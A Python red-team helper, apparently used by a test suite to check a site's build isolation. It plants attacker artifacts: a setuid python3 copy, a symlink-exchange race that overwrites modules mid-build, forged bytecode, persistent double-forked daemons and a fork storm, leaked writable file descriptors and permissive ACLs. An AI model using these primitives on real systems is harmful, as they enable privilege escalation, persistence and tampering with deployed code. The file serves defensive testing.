# What an attacker plants who is in a site, its build or its pip run: red-team-plant.py COMMAND WORDS… See plants.ts.
import ctypes
import glob
import importlib.util
import marshal
import mmap
import os
import pwd
import shutil
import socket
import struct
import sys
import time

KEEPER = "/tmp/red-team/keeper.sock"
FLIGHT = "/tmp/red-team/flight.sock"
EXCHANGE = 2


def deep(count, letters, base="."):
    """A folder in a folder, COUNT times: each name of LETTERS letters."""
    here = os.getcwd()
    os.makedirs(base, exist_ok=True)
    os.chdir(base)
    name = "d" * int(letters)
    for _ in range(int(count)):
        os.mkdir(name)
        os.chdir(name)
    with open("leaf", "w") as file:
        file.write("deep\n")
    os.chdir(here)


def bytes_name(kind, folder="."):
    """A file, folder or link whose name is latin-1, not UTF-8; a link whose target is."""
    name = os.fsencode(folder) + b"/caf\xe9"
    if kind == "file":
        with open(name, "w") as file:
            file.write("latin\n")
    elif kind == "folder":
        os.mkdir(name)
        with open(name + b"/inner.py", "w") as file:
            file.write("X = 1\n")
    elif kind == "link":
        os.symlink(b"settings.py", name)
    elif kind == "target":
        os.symlink(b"caf\xe9", os.fsencode(folder) + b"/to-latin")
    else:
        os.symlink(b"../../caf\xe9", name)


def bind(path):
    """A socket that nobody listens on, by a path short enough."""
    here = os.getcwd()
    os.chdir(os.path.dirname(path) or ".")
    socket.socket(socket.AF_UNIX).bind(os.path.basename(path))
    os.chdir(here)


def acl(path, *users):
    """Lets USERS read and write by access control lists: the path, and, where it is a folder, all that is made in it."""
    everyone = [(0x01, 7, -1)]
    everyone += [(0x02, 7, uid) for uid in sorted(pwd.getpwnam(user).pw_uid for user in users)]
    everyone += [(0x04, 7, -1), (0x10, 7, -1), (0x20, 7, -1)]
    packed = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, bits, uid & 0xFFFFFFFF) for tag, bits, uid in everyone)
    os.setxattr(path, "system.posix_acl_access", packed)
    if os.path.isdir(path):
        os.setxattr(path, "system.posix_acl_default", packed)


def byte_code(source, target=None):
    """Byte code of another source, of the kind that Python never compares with the file beside it."""
    target = target or importlib.util.cache_from_source(source)
    code = compile("VALUE = 'planted'\n", source, "exec")
    os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
    with open(target, "wb") as file:
        file.write(importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + b"\0" * 8 + marshal.dumps(code))


def hold(how, path):
    """Hands a file of ours that is open for writing to the running site: `pass`, `flight`, `map` or `folder`."""
    if how == "folder":
        os.makedirs(path, exist_ok=True)
        opened = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    else:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        opened = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
        os.write(opened, b"calm\n")
    if how == "flight":
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as out:
            out.connect(FLIGHT)
            socket.send_fds(out, [b"flight"], [opened])
        return
    ask(how, [opened])


def ask(what, descriptors=()):
    """@returns what the keeper answers"""
    with socket.socket(socket.AF_UNIX) as out:
        out.connect(KEEPER)
        socket.send_fds(out, [what.encode()], list(descriptors))
        out.shutdown(socket.SHUT_WR)
        return out.recv(65536).decode()


def prove(*folders):
    """Has the keeper write to all that it holds; fails where that is to be seen in FOLDERS, default: here."""
    said = ask("write")
    found = []
    for top in folders or (".",):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                if name == "KEPT":
                    found.append(path)
                elif os.path.isfile(path) and not os.path.islink(path):
                    with open(path, "rb") as file:
                        if file.read(4) == b"KEPT":
                            found.append(path)
    print(said)
    if found:
        sys.exit(f"written after the build: {found}")


def say():
    """Has the running site print what looks like ours."""
    ask("say")


def exchange(folder, prey, seconds, ready=""):
    """Exchanges FOLDER and a link to PREY as fast as it can."""
    swap = ctypes.CDLL(None).renameat2
    link = folder + ".link"
    end = time.time() + float(seconds)
    if os.path.isdir(folder) and not os.path.islink(link):
        os.symlink(prey, link)
    if ready:
        open(ready, "w").close()
    while time.time() < end:
        if swap(-100, os.fsencode(folder), -100, os.fsencode(link), EXCHANGE) != 0:
            # It is being built anew, or taken.
            time.sleep(0.0005)


def race(prey):
    """As the builder, by a program that it has left: exchanges folders of whatever is being built, and opens its files."""
    swap = ctypes.CDLL(None).renameat2
    end = time.time() + 1
    while time.time() < end:
        for tree in glob.glob(b"/web/alpha/releases/.v*"):
            many, link = tree + b"/many", tree + b"/link"
            try:
                if os.path.isdir(many) and not os.path.lexists(link):
                    os.symlink(prey, link)
                for _ in range(50):
                    swap(-100, many, -100, link, EXCHANGE)
                with open(tree + b"/pkg/canary.py", "r+") as file:
                    file.write("VALUE = 'planted'")
            except OSError:
                pass


def daemon(how, name):
    """A process called NAME that stays: `fork` twice, `session` of its own, `clean` environment, `storm` of its kind."""
    sys.stdout.flush()
    if os.fork():
        # Until it is what it is to be: who is killed before has never been there.
        end = time.time() + 10
        while time.time() < end and not any(line.startswith(name) for line in command_lines()):
            time.sleep(0.005)
        return
    os.setsid()
    if how != "session" and os.fork():
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    os.closerange(3, 256)
    os.chdir("/")
    if how == "storm":
        script = f"""
import os, time, sys
while True:
    # {name}
    if os.fork(): os._exit(0)
    os.setsid()
    time.sleep(0.002)
"""
        os.execve("/usr/bin/python3", [name, "-Ic", script], os.environ)
    os.execve("/bin/sleep", [name, "100000"], {} if how == "clean" else os.environ)


def command_lines():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline") as file:
                yield file.read()
        except OSError:
            pass


def setuid_shell(path):
    """What it runs it runs as whoever has made it."""
    shutil.copyfile("/usr/bin/python3", path)
    os.chmod(path, 0o6755)


def shared(name):
    """Shared memory that outlives its process."""
    with open(f"/dev/shm/{name}", "wb+") as file:
        file.truncate(4096)
        mmap.mmap(file.fileno(), 4096)[0:4] = b"here"


command, *words = sys.argv[1:]
if __name__ == "__main__":
    globals()[command.replace("-", "_")](*words)
